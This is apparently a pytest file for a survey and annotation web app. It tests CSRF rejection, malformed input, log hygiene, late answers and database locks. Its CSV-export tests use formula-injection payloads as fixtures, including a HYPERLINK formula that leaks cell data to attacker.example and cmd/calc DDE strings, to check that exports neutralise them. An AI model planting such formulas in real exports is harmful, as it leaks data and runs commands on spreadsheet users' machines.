"""Forms that no page sends, answers in logs and in files for spreadsheets, answers that come too late, and locks."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import threading
from collections.abc import Callable
from contextlib import closing
from dataclasses import fields
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from running import Command
from sqlalchemy import select, text
from sqlalchemy.exc import DBAPIError
from web_fixtures import Visitor
from web_projects import NAME, joined, made_project, small_project
from web_surveys import SURVEY, began, small_survey

from evenhand.data.annotation_files import ALIGNED, read_annotations, write_annotations
from evenhand.data.annotations import Annotation, AnnotationTable
from evenhand.data.csv_files import plain_cell, spreadsheet_cell
from evenhand.data.label_schemes import load_scheme
from evenhand.instruments.regard.lexicon_rates import MatchRow, MatchVerdict, matches_csv, read_review
from evenhand.regard.texts import read_regard_texts
from evenhand.studio import database as databases
from evenhand.studio.annotation.projects import ProjectText
from evenhand.studio.app import create_app
from evenhand.studio.database import Database
from evenhand.studio.group_commit import BusyDatabaseError
from evenhand.studio.survey.surveys import survey_named
from evenhand.studio.tables import AnswerRow, ParticipantRow, TextRow, utc_now
from evenhand.translation.changes import Change, read_changes, write_changes

Visitors = Callable[[], Visitor]

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
ANSWER = "Zebrafinken sing at night"

only_sqlite = pytest.mark.parametrize("database", ["sqlite"], indirect=True)


@only_sqlite
@pytest.mark.parametrize("token", ["é", "\u202e", "日本", "\x00", "a" * 100_000, "%ff"])
def test_a_token_that_is_not_ours_is_refused_whatever_it_holds(lead: Visitor, token: str) -> None:
    assert lead.client.post("/sign-out", data={"csrf": token}).status_code == 403


@only_sqlite
@pytest.mark.parametrize(
    "body", [b"csrf=\xe9", b"csrf=%E9", b"csrf=%ED%A0%80", b"csrf", b"&&&===", b"\xff\xfe"]
)
def test_bytes_that_are_no_text_are_refused(lead: Visitor, body: bytes) -> None:
    kind = {"content-type": "application/x-www-form-urlencoded"}
    assert lead.client.post("/sign-out", content=body, headers=kind).status_code == 403


@only_sqlite
@pytest.mark.parametrize("charset", ["utf-8", "unicode_escape", "undefined", "utf-7"])
def test_a_form_in_parts_is_none_of_ours(lead: Visitor, charset: str) -> None:
    part = b'--x\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n\\ud800\r\n--x--\r\n'
    kind = {"content-type": f"multipart/form-data; boundary=x; charset={charset}"}
    assert lead.client.post("/sign-out", content=part, headers=kind).status_code == 403


def test_an_address_with_a_nul_is_of_no_page(
    database: Database, visitor: Visitors, lead: Visitor, caplog: pytest.LogCaptureFixture
) -> None:
    """PostgreSQL takes no text with one."""
    small_survey(database)
    person = began(visitor)
    for path in ("/s/%00", "/s/a%00/help", f"{person.page.url.path}/pictures/%00"):
        assert person.get(path).status_code == 404, path
    for path in ("/surveys/%00", "/projects/%00", "/reviews/%00"):
        assert lead.get(path).status_code == 404, path
    assert caplog.records == []


def test_an_answer_that_cannot_be_written_is_not_in_the_log(
    database: Database, visitor: Visitors, caplog: pytest.LogCaptureFixture
) -> None:
    """SQLAlchemy shows what it sent, and PostgreSQL the row."""
    small_survey(database)
    person = began(visitor)
    with database.engine.begin() as connection:
        connection.execute(
            text(
                "CREATE TRIGGER never BEFORE INSERT ON answers BEGIN SELECT RAISE(ABORT, 'never'); END"
                if database.is_sqlite
                else "ALTER TABLE answers ADD CONSTRAINT never CHECK (position < 0)"
            )
        )
    assert person.send(choice="next", answer=ANSWER).status_code == 500
    assert "Zebrafinken" not in caplog.text
    assert "INSERT INTO answers" in caplog.text, "whoever runs the server finds the reason"
    assert "never" in caplog.text


@only_sqlite
@pytest.mark.parametrize(
    ("written", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd", "'-2+3+cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("＝1+1", "'＝1+1"),
        ("'=1+1", "''=1+1"),
        ("-1", "-1"),
        ("+3.5", "+3.5"),
        ("'-1", "''-1"),
        ("'quoted'", "'quoted'"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_a_cell_is_no_formula_and_gives_its_text_back(database: object, written: str, cell: str) -> None:  # noqa: ARG001
    assert spreadsheet_cell(written) == cell
    assert plain_cell(cell) == written


@only_sqlite
def test_an_annotation_export_has_no_formula_and_says_so(
    database: Database, visitor: Visitors, lead: Visitor, tmp_path: Path, run_evenhand_here: Command
) -> None:
    made_project(database, [ProjectText("t0", f"{FORMULA} said the person.")])
    joined(database, visitor, "Anna").send(choice="label:-1", comment="@SUM(1+1)*cmd|' /C calc'!A0")
    page = lead.get(f"/projects/{NAME}").text
    assert "an apostrophe stands before texts that a spreadsheet would take for formulas" in page
    downloaded = tmp_path / "downloaded.csv"
    downloaded.write_bytes(lead.get(f"/projects/{NAME}/annotations/long").content)
    collected = tmp_path / "collected.csv"
    result = run_evenhand_here("annotate", "collect", NAME, "--out", collected, "--db", database.shown)
    assert result.returncode == 0
    assert "2 cells begin like a formula of a spreadsheet" in " ".join(result.stderr.split())
    assert collected.read_bytes() == downloaded.read_bytes()
    for cell in re.findall(r'(?:^|,)"?([^,"]*)', downloaded.read_text().splitlines()[1]):
        assert not cell.startswith(("=", "@", "+"))
    (vote,) = read_annotations([collected])
    assert (vote.text, vote.label, vote.comment) == (
        f"{FORMULA} said the person.",
        "-1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    )


@only_sqlite
def test_what_an_export_has_apostrophes_for_is_read_back_by_every_command(
    database: Database, tmp_path: Path, run_evenhand_here: Command
) -> None:
    written = [Annotation(f"=t{n}", FORMULA, name, str(n)) for n in (0, 1) for name in ("Anna", "Ben")]
    table = AnnotationTable(load_scheme("regard"), tuple(written))
    (votes,) = write_annotations(table, tmp_path / "votes.csv")
    (aligned, _) = write_annotations(table, tmp_path / "aligned", layout=ALIGNED)
    (tmp_path / "authors.csv").write_text(
        "text_id,annotator,author\n'=t0,Anna,ada\n'=t1,Anna,bob\n", encoding="utf-8"
    )

    arguments = ("--language", "en", "--votes", votes, "--db", database.shown)
    made = run_evenhand_here("annotate", "new", "again", aligned, *arguments)
    assert made.returncode == 0, made.stderr
    with database.read() as session:
        texts = session.scalars(select(TextRow).order_by(TextRow.position)).all()
        assert [(row.key, row.text) for row in texts] == [("=t0", FORMULA), ("=t1", FORMULA)]
    assert read_annotations([aligned]).texts == {"=t0": FORMULA, "=t1": FORMULA}
    trained_on = read_regard_texts([votes], group=f"{tmp_path / 'authors.csv'}:author")
    assert trained_on.authors == ("ada", "bob")

    labels = tmp_path / "labels.csv"
    assert run_evenhand_here("annotate", "agreement", votes, "--labels", labels).returncode == 0
    rows = csv.DictReader(io.StringIO(labels.read_text(encoding="utf-8")))
    assert [(row["text_id"], row["text"], row["mode"]) for row in rows] == [
        ("'=t0", f"'{FORMULA}", "0"),
        ("'=t1", f"'{FORMULA}", "1"),
    ]


@only_sqlite
def test_other_tables_that_people_fill_in_have_no_formula_either(database: object, tmp_path: Path) -> None:  # noqa: ARG001
    row = MatchRow("women", "care", "=care", FORMULA, "right", "@note")
    (_, written) = csv.reader(io.StringIO(matches_csv([row])))
    assert written == ["women", "care", "'=care", f"'{FORMULA}", "right", "'@note", ""]
    (tmp_path / "matches.csv").write_text(matches_csv([row]))
    assert read_review(tmp_path / "matches.csv").verdicts == {("care", "=care", FORMULA): MatchVerdict.RIGHT}
    change = Change(*[FORMULA, "-1", *["plain"] * (len(fields(Change)) - 2)])
    write_changes(tmp_path / "changes.csv", [change])
    (_, cells) = csv.reader(io.StringIO((tmp_path / "changes.csv").read_text()))
    assert cells[:3] == [f"'{FORMULA}", "-1", "plain"]
    assert read_changes(tmp_path / "changes.csv") == [change]


def _end(database: Database) -> None:
    with database.write() as session:
        survey_named(session, SURVEY).retention = "2020-01-01"


@only_sqlite
def test_no_answer_is_accepted_after_the_last_day(database: Database, visitor: Visitors) -> None:
    small_survey(database)
    writing, asked, screened = began(visitor), visitor(), visitor()
    writing.send(choice="next", answer=ANSWER)
    for person in (asked, screened):
        person.get(f"/s/{SURVEY}")
        person.send(agree="yes")
    asked.send(**{"screening-age": "yes"})
    home = re.sub(r"\?.*", "", writing.page.url.path)
    _end(database)
    late = writing.send(choice="next", answer="one more")
    assert late.status_code == 409
    assert "last day of this survey has passed" in writing.text
    assert asked.send(**{"question-gender": "female"}).status_code == 409
    assert screened.send(**{"screening-age": "yes"}).status_code == 409
    assert "No more answers" in writing.get(home).text
    with database.read() as session:
        assert [row.written for row in session.scalars(select(AnswerRow))] == [ANSWER]
        people = session.scalars(select(ParticipantRow).order_by(ParticipantRow.id)).all()
        assert [row.state for row in people] == ["writing", "questions", "screening"]
        assert people[1].demographics == {}


@only_sqlite
def test_on_the_last_day_answers_are_accepted(database: Database, visitor: Visitors) -> None:
    small_survey(database)
    with database.write() as session:
        survey_named(session, SURVEY).retention = utc_now().date().isoformat()
    person = began(visitor)
    assert person.send(choice="next", answer=ANSWER).status_code == 200
    with database.read() as session:
        assert session.scalars(select(AnswerRow)).one().written == ANSWER


@only_sqlite
def test_who_stops_after_the_last_day_sees_the_debriefing(database: Database, visitor: Visitors) -> None:
    small_survey(database)
    person = began(visitor)
    stop = re.search(r'action="(/take/\d+/stop)"', person.page.text)
    assert stop
    _end(database)
    assert "This was about regard" in person.send(stop[1]).text


@pytest.fixture
def hurried(database: Database, monkeypatch: pytest.MonkeyPatch) -> Database:
    """The same database, for which nobody waits long."""
    monkeypatch.setattr(databases, "_WAIT", 1.0)
    return Database(database.url.render_as_string(hide_password=False))


@only_sqlite
def test_a_locked_database_says_try_again(
    database: Database, hurried: Database, caplog: pytest.LogCaptureFixture
) -> None:
    small_survey(database)
    app = create_app(hurried)
    person = began(lambda: Visitor(TestClient(app, base_url="http://127.0.0.1:8321")))
    asked = person.page
    with closing(sqlite3.connect(database.shown, isolation_level=None)) as other:
        other.execute("BEGIN IMMEDIATE")
        answer = person.send(choice="next", answer=ANSWER)
        assert answer.status_code == 503
        assert answer.headers["retry-after"] == "5"
        assert "not saved. Wait a moment, go back and try again" in person.text
        assert "in use by another process" in caplog.text
        assert "Traceback" not in caplog.text
        other.execute("ROLLBACK")
    person.page = asked
    assert person.send(choice="next", answer=ANSWER).status_code == 200
    with database.read() as session:
        assert session.scalars(select(AnswerRow)).one().written == ANSWER
    hurried.close()


def test_a_table_that_somebody_locked_is_waited_for_and_then_given_up(hurried: Database) -> None:
    if hurried.is_sqlite:
        with closing(sqlite3.connect(hurried.shown, isolation_level=None)) as other:
            other.execute("BEGIN IMMEDIATE")
            with pytest.raises(BusyDatabaseError, match="Try again"), hurried.write():
                pass
    else:
        with hurried.engine.begin() as other_connection:
            other_connection.execute(text("LOCK TABLE surveys IN ACCESS EXCLUSIVE MODE"))
            with pytest.raises(BusyDatabaseError, match="Try again"), hurried.read() as session:
                session.execute(text("SELECT * FROM surveys"))
    hurried.close()


@only_sqlite
def test_threads_that_wait_for_one_that_writes_give_up_too(hurried: Database) -> None:
    writing, done = threading.Event(), threading.Event()

    def write_for_long() -> None:
        with hurried.write():
            writing.set()
            done.wait(60)

    thread = threading.Thread(target=write_for_long)
    thread.start()
    writing.wait(60)
    try:
        with pytest.raises(BusyDatabaseError, match="Try again"), hurried.write():
            pass
    finally:
        done.set()
        thread.join()
    with hurried.write() as session:
        session.execute(text("SELECT 1"))
    hurried.close()


@only_sqlite
def test_what_is_no_lock_is_a_fault_as_before(database: Database) -> None:
    with pytest.raises(DBAPIError, match="no such table"), database.read() as session:
        session.execute(text("SELECT * FROM unknown"))


@only_sqlite
def test_a_command_says_that_a_database_is_locked(
    database: Database, monkeypatch: pytest.MonkeyPatch, run_evenhand_here: Command
) -> None:
    small_project(database)
    monkeypatch.setattr(databases, "_WAIT", 0.2)
    with closing(sqlite3.connect(database.shown, isolation_level=None)) as other:
        other.execute("BEGIN IMMEDIATE")
        result = run_evenhand_here("annotate", "link", NAME, "Emil", "--db", database.shown)
    assert result.returncode == 2
    assert "is in use by another process. Try again in a moment." in result.stdout + result.stderr
